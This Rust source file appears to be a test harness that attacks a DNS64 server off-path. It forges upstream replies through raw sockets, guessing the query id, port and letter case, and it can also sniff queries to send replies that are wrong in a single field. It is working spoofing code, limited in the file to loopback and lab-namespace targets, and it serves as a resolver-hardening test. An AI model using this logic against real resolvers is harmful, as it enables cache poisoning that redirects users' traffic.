//! An off-path attacker (RFC 5452), to test a DNS64 server with: `benches/dns64-spoofing` runs it.
//!
//! It queries the server for one name after the other, so that the server queries its upstream, and sends forged
//! replies as fast as it can until the true one has arrived: with the right source address and port and the right
//! question, but a guessed id, a guessed destination port, and a guessed case of every letter. If the client gets the
//! forged address, the server accepted a forged reply. The more the attacker knows (`--ports`, `--case-known`), the
//! easier the attack is. With one port and known case it must succeed within seconds, which shows that the test can
//! fail.
//!
//! With `--wrong` it sees the server's queries, as nobody off the path does, and sends replies that are right in all but one value,
//! as fast as it can: each value has to protect on its own. With `--wrong nothing` it must succeed.

use std::io::{self, Read};
use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
use std::ops::RangeInclusive;
use std::time::{Duration, Instant};

use anyhow::{Context, ensure};
use chacha20::ChaCha12Rng;
use chacha20::rand_core::{Rng, SeedableRng};
use clap::{Parser, ValueEnum};
use socket2::{Domain, Protocol, Socket, Type};

/// Address in the forged replies.
const FORGED: [u8; 16] = [0x20, 1, 0x0d, 0xb8, 0x0b, 0xad, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
/// Address in forged replies to queries for A: nothing else has it.
const FORGED4: [u8; 4] = [198, 51, 100, 66];
/// Types of questions and records.
const A: u8 = 1;
const AAAA: u8 = 28;
/// Protocol of raw sockets (IPPROTO_RAW): the sender writes the IP header.
const RAW: i32 = 255;
/// Length of the IPv4 and UDP headers.
const HEADERS: usize = 20 + 8;
/// Position of the question in a DNS message.
const QUESTION: usize = 12;
/// Number of forged replies between two checks of the client's socket.
const BURST: u32 = 32;
/// Length of an IPv4 header without options.
const IP: usize = 20;
/// Longest wait for a true reply.
const REPLY_TIMEOUT: Duration = Duration::from_secs(2);

/// Sends forged replies to a DNS64 server in a namespace of this host.
#[derive(Parser)]
struct Args {
    /// The server under attack.
    #[arg(long)]
    server: SocketAddrV4,
    /// Its upstream; the replies claim to come from its address and port.
    #[arg(long)]
    upstream: SocketAddrV4,
    /// Duration in seconds, at most 600.
    #[arg(long, value_parser = clap::value_parser!(u64).range(1..=600))]
    seconds: u64,
    /// Guess the destination port in this range: LOW-HIGH.
    #[arg(long, default_value = "1024-65535", value_parser = ports)]
    ports: RangeInclusive<u16>,
    /// First address of the names: an attack with names of a former one is answered from the cache.
    #[arg(long, default_value_t = Ipv4Addr::new(32, 0, 0, 0))]
    names: Ipv4Addr,
    /// Keep the case of the letters: for a server without mixed case.
    #[arg(long)]
    case_known: bool,
    /// See the queries, and send replies that are right in all but this value.
    #[arg(long)]
    wrong: Option<Wrong>,
}

/// The value that is wrong in replies to a query that the attacker has seen.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
enum Wrong {
    Nothing,
    Id,
    Port,
    /// The case of letters of the name.
    Case,
    /// A letter of the name.
    Name,
    Type,
    Source,
    Address,
}

/// Parses a range of ports: LOW-HIGH.
fn ports(text: &str) -> Result<RangeInclusive<u16>, String> {
    let range =
        text.split_once('-').and_then(|(low, high)| Some((low.parse().ok()?, high.parse().ok()?)));
    match range {
        Some((low, high)) if low <= high => Ok(low..=high),
        _ => Err(format!("`{text}` is not a range of ports: write 1024-65535")),
    }
}

/// Outcomes of the queried names.
#[derive(Default)]
struct Outcome {
    forged_sent: u64,
    names: u64,
    true_replies: u64,
    accepted: u64,
    no_reply: u64,
}

fn main() -> anyhow::Result<()> {
    let args = Args::parse();
    let local = |address: &SocketAddrV4| {
        address.ip().is_loopback() || address.ip().octets()[..2] == [10, 9]
    };
    ensure!(
        local(&args.server) && local(&args.upstream),
        "only servers in the scripts' namespaces (10.9.0.0/16) or on loopback are allowed"
    );
    let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))
        .context("cannot open a raw socket: run this as root of the namespace")?;
    let outcome = attack(&args, &raw)?;
    println!(
        "{} names queried, {} forged replies ({:.0} per second); true answers {}, forged answers accepted {}, no answer {}",
        outcome.names,
        outcome.forged_sent,
        outcome.forged_sent as f64 / args.seconds as f64,
        outcome.true_replies,
        outcome.accepted,
        outcome.no_reply,
    );
    Ok(())
}

/// Queries names and forges replies until the time is over.
fn attack(args: &Args, raw: &Socket) -> anyhow::Result<Outcome> {
    let client = UdpSocket::bind((*args.upstream.ip(), 0)).context("cannot bind the client")?;
    client.connect(args.server)?;
    client.set_nonblocking(true)?;
    let mut seen = args.wrong.map(|_| Seen::open()).transpose()?;
    let target = args.server.into();
    let mut rng = ChaCha12Rng::seed_from_u64(1);
    let mut outcome = Outcome::default();
    let end = Instant::now() + Duration::from_secs(args.seconds);
    while Instant::now() < end {
        let address = Ipv4Addr::from_bits(args.names.to_bits().wrapping_add(outcome.names as u32));
        outcome.names += 1;
        let question = question(address);
        client.send(&query(&question, outcome.names as u16)).context("cannot send a query")?;
        let asked = Instant::now();
        let mut forged = Forged::new(args, &question, &FORGED);
        let mut forged4 = Forged::new(args, &of_type(A, &question), &FORGED4);
        loop {
            if let Some(seen) = &mut seen {
                seen.look(args.upstream.port(), &question)?;
            }
            for _ in 0..BURST {
                let packet = match (args.wrong, seen.as_ref().map(|seen| &seen.last)) {
                    (None, _) => forged.guess(args, &mut rng),
                    (Some(wrong), Some(Some(query))) => {
                        let forged = if query.qtype == A { &mut forged4 } else { &mut forged };
                        forged.but(wrong, query, &mut rng)
                    }
                    _ => break,
                };
                match raw.send_to(packet, &target) {
                    Ok(_) => outcome.forged_sent += 1,
                    // The queue to the server is full: the attack runs at the rate of the link.
                    Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                    Err(error) if error.raw_os_error() == Some(nix::libc::ENOBUFS) => {}
                    Err(error) => return Err(error).context("cannot send a forged reply"),
                }
            }
            let mut reply = [0; 4096];
            match client.recv(&mut reply) {
                Ok(len) if is_forged(&reply[..len]) => outcome.accepted += 1,
                Ok(_) => outcome.true_replies += 1,
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {
                    if asked.elapsed() < REPLY_TIMEOUT {
                        continue;
                    }
                    outcome.no_reply += 1;
                }
                Err(error) => return Err(error).context("cannot receive from the server"),
            }
            break;
        }
    }
    Ok(outcome)
}

/// A query of the server to its upstream.
struct Query {
    id: [u8; 2],
    port: [u8; 2],
    name: Vec<u8>,
    qtype: u8,
}

/// The server's queries as upstream's host sees them.
struct Seen {
    socket: Socket,
    /// The last one for the current question.
    last: Option<Query>,
}

impl Seen {
    fn open() -> anyhow::Result<Self> {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP));
        let socket =
            socket.context("cannot open a raw socket: run this as root of the namespace")?;
        socket.set_nonblocking(true)?;
        Ok(Seen { socket, last: None })
    }

    /// Reads what has arrived for a port; keeps the last query for the name of a question.
    fn look(&mut self, port: u16, question: &[u8]) -> anyhow::Result<()> {
        let mut packet = [0; 2048];
        let is_for = |last: &Query| last.name.eq_ignore_ascii_case(&question[..question.len() - 4]);
        self.last = self.last.take().filter(is_for);
        loop {
            let len = match self.socket.read(&mut packet) {
                Ok(len) => len,
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => return Ok(()),
                Err(error) => return Err(error).context("cannot see the queries"),
            };
            let udp = packet[..len].get(IP..).unwrap_or_default();
            let (Some(ports), Some(message)) = (udp.first_chunk::<4>(), udp.get(8..)) else {
                continue;
            };
            let asked = message.get(QUESTION..).and_then(|rest| rest.get(..question.len()));
            let Some((name, rest)) =
                asked.and_then(|asked| asked.split_at_checked(question.len() - 4))
            else {
                continue;
            };
            let (id, from) = ([message[0], message[1]], [ports[0], ports[1]]);
            let query = Query { id, port: from, name: name.to_vec(), qtype: rest[1] };
            if is_for(&query) && ports[2..] == port.to_be_bytes() && message[2] & 0x80 == 0 {
                self.last = Some(query);
            }
        }
    }
}

/// Composes the AAAA question for an address's name in the namespace of dns64perf.
fn question(address: Ipv4Addr) -> Vec<u8> {
    let [a, b, c, d] = address.octets();
    let mut question =
        format!("\x0f{a:03}-{b:03}-{c:03}-{d:03}\x09dns64perf\x04test\0").into_bytes();
    question.extend([0, 28, 0, 1]);
    question
}

/// Returns a question with another type.
fn of_type(qtype: u8, question: &[u8]) -> Vec<u8> {
    let mut question = question.to_vec();
    let at = question.len() - 3;
    question[at] = qtype;
    question
}

/// Returns whether a reply has a forged address, or one that was made of it.
fn is_forged(reply: &[u8]) -> bool {
    let has = |address: &[u8]| reply.windows(address.len()).any(|window| window == address);
    has(&FORGED) || has(&FORGED4)
}

fn query(question: &[u8], id: u16) -> Vec<u8> {
    let [high, low] = id.to_be_bytes();
    let mut query = vec![high, low, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    query.extend(question);
    query
}

/// A forged reply with its headers.
struct Forged {
    packet: Vec<u8>,
    question: RangeInclusive<usize>,
    /// Address and port of upstream, as on the wire.
    address: [u8; 4],
    from: [u8; 2],
    qtype: u8,
}

impl Forged {
    /// Composes everything except the guessed parts.
    fn new(args: &Args, question: &[u8], address: &[u8]) -> Self {
        let mut message = vec![0, 0, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0];
        let qtype = question[question.len() - 3];
        message.extend(question);
        let len = address.len() as u8;
        message.extend([0xc0, QUESTION as u8, 0, qtype, 0, 1, 0, 1, 0x51, 0x80, 0, len]);
        message.extend(address);
        let size = |headers: usize| ((headers + message.len()) as u16).to_be_bytes();
        // The kernel fills in the length, the id and the checksum of the IP header. A UDP checksum of 0
        // means none.
        let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 17, 0, 0];
        packet.extend(args.upstream.ip().octets());
        packet.extend(args.server.ip().octets());
        packet.extend(args.upstream.port().to_be_bytes());
        packet.extend([0, 0]);
        packet.extend(size(8));
        packet.extend([0, 0]);
        packet.extend(message);
        let name = HEADERS + QUESTION;
        Forged {
            packet,
            question: name..=name + question.len() - 6,
            address: args.upstream.ip().octets(),
            from: args.upstream.port().to_be_bytes(),
            qtype,
        }
    }

    /// Fills in the next guess.
    fn guess(&mut self, args: &Args, rng: &mut ChaCha12Rng) -> &[u8] {
        let random = rng.next_u64();
        let ports = u64::from(args.ports.end() - args.ports.start()) + 1;
        let port = args.ports.start() + (((random >> 32) * ports) >> 32) as u16;
        self.packet[22..24].copy_from_slice(&port.to_be_bytes());
        self.packet[HEADERS..HEADERS + 2].copy_from_slice(&(random as u16).to_be_bytes());
        if !args.case_known {
            let mut coins = random as u32 >> 16 | (rng.next_u32() << 16);
            for byte in &mut self.packet[self.question.clone()] {
                if byte.is_ascii_alphabetic() {
                    *byte = (*byte & !0x20) | (coins as u8 & 1) << 5;
                    coins >>= 1;
                }
            }
        }
        &self.packet
    }

    /// Makes the reply to a query that is right in all but one value.
    fn but(&mut self, wrong: Wrong, query: &Query, rng: &mut ChaCha12Rng) -> &[u8] {
        // A random value that is not 0 changes the one to which it is added.
        let random = (rng.next_u32() as u16).max(1);
        let other = |value: [u8; 2]| (u16::from_be_bytes(value) ^ random).to_be_bytes();
        let (mut id, mut port, mut name) = (query.id, query.port, query.name.clone());
        // The first letter of the zone's name: all names have it at the same place.
        let letter = 1 + 15 + 1;
        let (mut qtype, mut from, mut last) = (self.qtype, self.from, self.address[3]);
        match wrong {
            Wrong::Nothing => {}
            Wrong::Id => id = other(id),
            Wrong::Port => port = other(port),
            Wrong::Case => {
                let coins = name.iter_mut().filter(|octet| octet.is_ascii_alphabetic());
                coins
                    .enumerate()
                    .for_each(|(n, octet)| *octet ^= (random >> (n % 16) & 1) as u8 * 0x20);
                // At least one letter is another one's case.
                if name == query.name {
                    name[letter] ^= 0x20;
                }
            }
            Wrong::Name => name[letter] = if name[letter] | 0x20 == b'x' { b'y' } else { b'x' },
            Wrong::Type => qtype = if qtype == A { AAAA } else { A },
            Wrong::Source => from = other(from),
            Wrong::Address => last ^= (random as u8).max(1),
        }
        let question = *self.question.start();
        self.packet[question..question + name.len()].copy_from_slice(&name);
        self.packet[question + name.len() + 1] = qtype;
        self.packet[HEADERS..HEADERS + 2].copy_from_slice(&id);
        self.packet[20..22].copy_from_slice(&from);
        self.packet[22..24].copy_from_slice(&port);
        self.packet[15] = last;
        &self.packet
    }
}
